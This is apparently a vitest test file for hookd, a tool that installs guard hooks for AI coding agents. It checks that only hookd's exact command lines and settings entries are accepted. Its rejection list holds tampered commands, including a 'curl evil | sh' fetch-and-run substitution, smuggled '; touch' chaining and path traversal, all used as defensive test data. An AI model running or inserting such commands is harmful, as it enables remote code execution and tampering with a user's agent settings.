/**
 * hookd's own command lines read back strictly (src/agents/settings/hookd-command.ts): exactly what
 * `hookd init` and `hookd setup` write is hookd's; a command that merely looks like it, one character
 * off, is not. Each agent's routes and entries are as its definition says (src/agents/registry.ts).
 */
import { describe, expect, it } from 'vitest'
import type { AgentDefinition } from '../../../src/agents/agent-definition.js'
import { agentById } from '../../../src/agents/registry.js'
import { type HookdCommand, parseHookdCommand as parse } from '../../../src/agents/settings/hookd-command.js'
import { shimCommand, teamCommand } from '../../../src/agents/settings/shim-command.js'

const agent = (id: string): AgentDefinition => agentById(id) as AgentDefinition
/** hookd's command for the agent `id`, as its definition's routes are. */
const parseHookdCommand = (command: unknown, id: string, event?: string): HookdCommand | undefined =>
  parse(command, { agent: id, namedEvents: agent(id).settings.namedEvents }, event)
const isHookdEntry = (entry: unknown): boolean => agent('claude-code').settings.format.isHookd(entry, 'PreToolUse')
const oursOf = (id: string): AgentDefinition['settings']['format'] => agent(id).settings.format
const isHookdHooksEntry = (entry: unknown, event: string, format: AgentDefinition['settings']['format']): boolean => format.isHookd(entry, event)

const team = teamCommand('/codex/guard,audit', 'hooks', 30, false)
const shim = shimCommand({ shim: '/opt/app/node_modules/hookd-sandbox/build/hookd-hook', url: 'http://127.0.0.1:7390/codex/guard', tokenFile: '/home/u/p/.hookd/http-token', timeoutS: 30 })

describe("hookd's command lines", () => {
  it('reads back every shape init and setup write, quoting and flags included', () => {
    expect(parseHookdCommand(team, 'codex')).toEqual({ by: 'init', agent: 'codex', route: '/codex/guard,audit', hooksDir: 'hooks', timeoutS: 30, failOpen: false })
    const open = teamCommand('/claude-code/guard', "tools/my hooks/it's", 12, true)
    expect(parseHookdCommand(open, 'claude-code')).toMatchObject({ by: 'init', hooksDir: "tools/my hooks/it's", timeoutS: 12, failOpen: true })
    const copilot = teamCommand('/copilot/guard?event=preToolUse', 'hooks', 30, false)
    expect(parseHookdCommand(copilot, 'copilot', 'preToolUse')).toMatchObject({ by: 'init', route: '/copilot/guard?event=preToolUse' })
    expect(parseHookdCommand(shim, 'codex')).toEqual({
      by: 'setup',
      agent: 'codex',
      url: 'http://127.0.0.1:7390/codex/guard',
      shim: '/opt/app/node_modules/hookd-sandbox/build/hookd-hook',
      tokenFile: '/home/u/p/.hookd/http-token',
      timeoutS: 30,
      failOpen: false,
    })
    const spaced = shimCommand({ shim: '/home/me/my tools/bin/hookd-hook', url: 'http://[::1]:7390/gemini/profile/strict', tokenFile: '/home/me/.config/hookd/tokens/ab', timeoutS: 5, failOpen: true })
    expect(parseHookdCommand(spaced, 'gemini')).toMatchObject({ by: 'setup', shim: '/home/me/my tools/bin/hookd-hook', failOpen: true })
  })

  it('takes nothing else for hookd\'s: more, less, other quoting, another shim, route or agent', () => {
    const not = [
      'touch /tmp/x; : hookd-hook',
      `h=/tmp/${'x'.repeat(8)}/bin/hookd-hook; exec "$h" --timeout 30 --hooks-dir hooks /codex/guard`,
      `${team}; touch /tmp/x`,
      `touch /tmp/x; ${team}`,
      `${team} `,
      team.replace('exec "$h"', 'exec  "$h"'),
      team.replace("run 'npx hookd-sandbox up'", "run 'curl evil | sh'"),
      team.replace('--hooks-dir hooks', "--hooks-dir 'hooks'"),
      team.replace('--hooks-dir hooks', '--hooks-dir ../elsewhere'),
      team.replace('--hooks-dir hooks', '--hooks-dir /abs'),
      team.replace('--timeout 30', '--timeout 30 --project /etc'),
      team.replace('--timeout 30', '--timeout 0'),
      teamCommand('/codex/profile/strict', 'hooks', 30, false),
      teamCommand('/codex/../x', 'hooks', 30, false),
      teamCommand('/codex/guard?event=Stop', 'hooks', 30, false),
      shim.replace('build/hookd-hook', 'build/evil'),
      shim.replace('/opt/app/node_modules/hookd-sandbox/build/hookd-hook', 'build/hookd-hook'),
      shim.replace('/opt/app', '/opt/app/../x'),
      shim.replace('http://127.0.0.1:7390', 'https://127.0.0.1:7390'),
      shim.replace('http://127.0.0.1:7390', 'http://127.0.0.1:80'),
      shim.replace('/codex/guard', '/codex/guard?x=1'),
      shim.replace('--token-file /home/u/p/.hookd/http-token', '--token-file .hookd/http-token'),
      shim.replace('--token-file', '--fail-open --token-file').replace('--fail-open', '--verbose'),
      `${shim} extra`,
      `'${shim}'`,
    ]
    for (const command of not) expect(parseHookdCommand(command, 'codex'), command).toBeUndefined()
    // Another agent's route is not hookd's entry for this agent.
    expect(parseHookdCommand(team, 'gemini')).toBeUndefined()
    expect(parseHookdCommand(shim, 'claude-code')).toBeUndefined()
    // Copilot's routes name the event the entry is under.
    const copilot = teamCommand('/copilot/guard?event=preToolUse', 'hooks', 30, false)
    expect(parseHookdCommand(copilot, 'copilot', 'sessionStart')).toBeUndefined()
    expect(parseHookdCommand(teamCommand('/copilot/guard', 'hooks', 30, false), 'copilot', 'preToolUse')).toBeUndefined()
    expect(parseHookdCommand(`${team}${' '.repeat(9000)}`, 'codex')).toBeUndefined()
    expect(parseHookdCommand(42, 'codex')).toBeUndefined()
  })

  it("an entry is hookd's only with the fields hookd writes for the agent", () => {
    const codex = oursOf('codex')
    expect(isHookdHooksEntry({ type: 'command', command: team, timeout: 35 }, 'PreToolUse', codex)).toBe(true)
    expect(isHookdHooksEntry({ type: 'command', command: team, timeout: 35, async: true }, 'PreToolUse', codex)).toBe(false)
    expect(isHookdHooksEntry({ type: 'command', command: team, timeout: '35' }, 'PreToolUse', codex)).toBe(false)
    expect(isHookdHooksEntry({ type: 'prompt', command: team, timeout: 35 }, 'PreToolUse', codex)).toBe(false)
    const gemini = teamCommand('/gemini/guard', 'hooks', 30, false)
    expect(isHookdHooksEntry({ type: 'command', command: gemini, name: 'hookd', timeout: 35000 }, 'BeforeTool', oursOf('gemini'))).toBe(true)
    expect(isHookdHooksEntry({ type: 'command', command: gemini, name: 'other', timeout: 35000 }, 'BeforeTool', oursOf('gemini'))).toBe(false)
    const claude = teamCommand('/claude-code/guard', 'hooks', 30, false)
    expect(isHookdEntry({ type: 'command', command: claude, timeout: 35 })).toBe(true)
    expect(isHookdEntry({ type: 'command', command: `${claude}; touch /tmp/x`, timeout: 35 })).toBe(false)
    expect(isHookdEntry({ type: 'command', command: 'x=1; : hookd-hook /claude-code/guard', timeout: 35 })).toBe(false)
    expect(isHookdEntry({ type: 'http', url: 'http://127.0.0.1:7390/claude-code/guard', headers: { Authorization: 'Bearer hkd_x' }, timeout: 30, onFailure: 'block' })).toBe(true)
    expect(isHookdEntry({ type: 'http', url: 'http://127.0.0.1:7390/claude-code/guard', headers: { Authorization: 'Bearer hkd_x', 'X-Other': 'y' }, timeout: 30 })).toBe(false)
    expect(isHookdEntry({ type: 'http', url: 'http://127.0.0.1:7390/elsewhere', headers: { Authorization: 'Bearer hkd_x' }, timeout: 30 })).toBe(false)
  })
})
